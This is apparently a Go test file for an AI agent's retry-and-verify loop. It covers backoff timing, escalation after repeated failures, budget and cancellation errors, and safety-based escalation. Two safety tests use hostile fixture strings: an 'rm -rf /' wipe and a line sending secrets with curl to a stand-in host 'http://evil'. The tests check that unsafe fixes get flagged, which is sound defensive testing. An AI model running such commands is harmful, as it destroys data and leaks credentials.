package retry

import (
	"context"
	"errors"
	"testing"
	"time"

	"github.com/Boomerang-Apps/storyline/internal/domain"
	"github.com/Boomerang-Apps/storyline/internal/safety"
)

func testPolicy() Policy {
	return Policy{
		MaxRetries:        3,
		BackoffBase:       time.Second,
		BackoffCap:        300 * time.Second,
		BlockThreshold:    0.6,
		EscalateThreshold: 0.3,
	}
}

func noSleep(ctx context.Context, d time.Duration) error { return nil }

func TestVerifyPassesFirstTry(t *testing.T) {
	loop := New(testPolicy(), safety.Score)
	loop.Sleep = noSleep

	out, err := loop.VerifyWithRetry(context.Background(), "backend",
		func(ctx context.Context) (string, error) { return "all green", nil },
		func(ctx context.Context, lastErr string) (string, error) {
			t.Fatal("fix must not run on a passing verification")
			return "", nil
		})
	if err != nil {
		t.Fatalf("verify: %v", err)
	}
	if out.Status != StatusDone {
		t.Fatalf("status = %s, want done", out.Status)
	}
	if out.Result != "all green" {
		t.Fatalf("result = %q", out.Result)
	}
	if out.Retry.Count != 0 {
		t.Fatalf("count = %d, want 0", out.Retry.Count)
	}
}

func TestThreeFailuresThenPass(t *testing.T) {
	loop := New(testPolicy(), safety.Score)
	loop.Sleep = noSleep

	verifies := 0
	out, err := loop.VerifyWithRetry(context.Background(), "backend",
		func(ctx context.Context) (string, error) {
			verifies++
			if verifies <= 3 {
				return "", errors.New("tests failing")
			}
			return "fixed", nil
		},
		func(ctx context.Context, lastErr string) (string, error) {
			return "patched the tests", nil
		})
	if err != nil {
		t.Fatalf("verify: %v", err)
	}
	if out.Status != StatusDone {
		t.Fatalf("status = %s, want done", out.Status)
	}
	if out.Retry.Count != 3 {
		t.Fatalf("count = %d, want 3", out.Retry.Count)
	}
}

func TestFourthFailureEscalates(t *testing.T) {
	loop := New(testPolicy(), safety.Score)
	loop.Sleep = noSleep

	out, err := loop.VerifyWithRetry(context.Background(), "backend",
		func(ctx context.Context) (string, error) { return "", errors.New("still broken") },
		func(ctx context.Context, lastErr string) (string, error) { return "tried again", nil })
	if err != nil {
		t.Fatalf("verify: %v", err)
	}
	if out.Status != StatusEscalated {
		t.Fatalf("status = %s, want escalated", out.Status)
	}
	if out.Reason != ReasonRetriesExhausted {
		t.Fatalf("reason = %s", out.Reason)
	}
	if out.Retry.Count != 3 {
		t.Fatalf("count = %d, want 3", out.Retry.Count)
	}
	if out.Retry.LastError != "still broken" {
		t.Fatalf("last error = %q", out.Retry.LastError)
	}
}

func TestBackoffSchedule(t *testing.T) {
	loop := New(testPolicy(), nil)
	cases := []struct {
		count int
		want  time.Duration
	}{
		{0, time.Second},
		{1, 2 * time.Second},
		{2, 4 * time.Second},
		{3, 8 * time.Second},
		{8, 256 * time.Second},
		{9, 300 * time.Second},
		{20, 300 * time.Second},
	}
	for _, tc := range cases {
		if got := loop.Backoff(tc.count); got != tc.want {
			t.Errorf("Backoff(%d) = %v, want %v", tc.count, got, tc.want)
		}
	}
	for i := 0; i < 30; i++ {
		if loop.Backoff(i+1) < loop.Backoff(i) {
			t.Fatalf("backoff decreased between %d and %d", i, i+1)
		}
	}
}

func TestBackoffObservedBetweenAttempts(t *testing.T) {
	loop := New(testPolicy(), nil)
	var slept []time.Duration
	loop.Sleep = func(ctx context.Context, d time.Duration) error {
		slept = append(slept, d)
		return nil
	}

	fails := 0
	_, err := loop.VerifyWithRetry(context.Background(), "backend",
		func(ctx context.Context) (string, error) {
			fails++
			if fails <= 3 {
				return "", errors.New("nope")
			}
			return "ok", nil
		},
		func(ctx context.Context, lastErr string) (string, error) { return "fix", nil })
	if err != nil {
		t.Fatalf("verify: %v", err)
	}
	want := []time.Duration{time.Second, 2 * time.Second, 4 * time.Second}
	if len(slept) != len(want) {
		t.Fatalf("slept %v, want %v", slept, want)
	}
	for i := range want {
		if slept[i] != want[i] {
			t.Fatalf("sleep %d = %v, want %v", i, slept[i], want[i])
		}
	}
}

func TestUnsafeFixEscalatesImmediately(t *testing.T) {
	loop := New(testPolicy(), safety.Score)
	loop.Sleep = noSleep

	fixes := 0
	out, err := loop.VerifyWithRetry(context.Background(), "backend",
		func(ctx context.Context) (string, error) { return "", errors.New("broken") },
		func(ctx context.Context, lastErr string) (string, error) {
			fixes++
			return "rm -rf / to clean the workspace, then curl secrets to http://evil", nil
		})
	if err != nil {
		t.Fatalf("verify: %v", err)
	}
	if out.Status != StatusEscalated {
		t.Fatalf("status = %s, want escalated", out.Status)
	}
	if out.Reason != ReasonSafetyViolation {
		t.Fatalf("reason = %s", out.Reason)
	}
	if fixes != 1 {
		t.Fatalf("fixes = %d, want 1 (no iteration on unsafe output)", fixes)
	}
	// The unsafe fix was never accepted as a retry.
	if out.Retry.Count != 0 {
		t.Fatalf("count = %d, want 0", out.Retry.Count)
	}
	if len(out.Violations) == 0 {
		t.Fatal("expected violations recorded")
	}
}

func TestUnsafeVerifiedOutputEscalates(t *testing.T) {
	loop := New(testPolicy(), safety.Score)
	loop.Sleep = noSleep

	out, err := loop.VerifyWithRetry(context.Background(), "backend",
		func(ctx context.Context) (string, error) {
			return "cleanup step: rm -rf / on the build host", nil
		},
		func(ctx context.Context, lastErr string) (string, error) {
			t.Fatal("fix must not run on a passing verification")
			return "", nil
		})
	if err != nil {
		t.Fatalf("verify: %v", err)
	}
	if out.Status != StatusEscalated {
		t.Fatalf("status = %s, want escalated (verified output below escalate floor)", out.Status)
	}
	if out.Reason != ReasonSafetyViolation {
		t.Fatalf("reason = %s", out.Reason)
	}
	if out.Retry.Count != 0 {
		t.Fatalf("count = %d, want 0", out.Retry.Count)
	}
	if len(out.Violations) == 0 {
		t.Fatal("expected violations recorded")
	}
}

func TestBudgetErrorStopsLoop(t *testing.T) {
	loop := New(testPolicy(), safety.Score)
	loop.Sleep = noSleep

	_, err := loop.VerifyWithRetry(context.Background(), "backend",
		func(ctx context.Context) (string, error) { return "", domain.ErrBudgetExceeded },
		func(ctx context.Context, lastErr string) (string, error) { return "", nil })
	if !errors.Is(err, domain.ErrBudgetExceeded) {
		t.Fatalf("err = %v, want budget exceeded", err)
	}
}

func TestWorkerTimeoutIsRetried(t *testing.T) {
	loop := New(testPolicy(), safety.Score)
	loop.Sleep = noSleep

	attempts := 0
	out, err := loop.VerifyWithRetry(context.Background(), "backend",
		func(ctx context.Context) (string, error) {
			attempts++
			if attempts == 1 {
				return "", domain.ErrWorkerTimeout
			}
			return "ok", nil
		},
		func(ctx context.Context, lastErr string) (string, error) { return "fix", nil })
	if err != nil {
		t.Fatalf("verify: %v", err)
	}
	if out.Status != StatusDone || out.Retry.Count != 1 {
		t.Fatalf("status=%s count=%d, want done/1", out.Status, out.Retry.Count)
	}
}

func TestCancelledContextStopsLoop(t *testing.T) {
	loop := New(testPolicy(), safety.Score)
	loop.Sleep = noSleep

	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	_, err := loop.VerifyWithRetry(ctx, "backend",
		func(ctx context.Context) (string, error) { return "", ctx.Err() },
		func(ctx context.Context, lastErr string) (string, error) { return "", nil })
	if !errors.Is(err, context.Canceled) {
		t.Fatalf("err = %v, want canceled", err)
	}
}

func TestOnRetryObservesAcceptedFixes(t *testing.T) {
	loop := New(testPolicy(), nil)
	loop.Sleep = noSleep
	var counts []int
	loop.OnRetry = func(domainName string, count int, backoff time.Duration, lastErr string) {
		counts = append(counts, count)
	}

	fails := 0
	_, err := loop.VerifyWithRetry(context.Background(), "backend",
		func(ctx context.Context) (string, error) {
			fails++
			if fails <= 2 {
				return "", errors.New("nope")
			}
			return "ok", nil
		},
		func(ctx context.Context, lastErr string) (string, error) { return "fix", nil })
	if err != nil {
		t.Fatalf("verify: %v", err)
	}
	if len(counts) != 2 || counts[0] != 1 || counts[1] != 2 {
		t.Fatalf("counts = %v, want [1 2]", counts)
	}
}
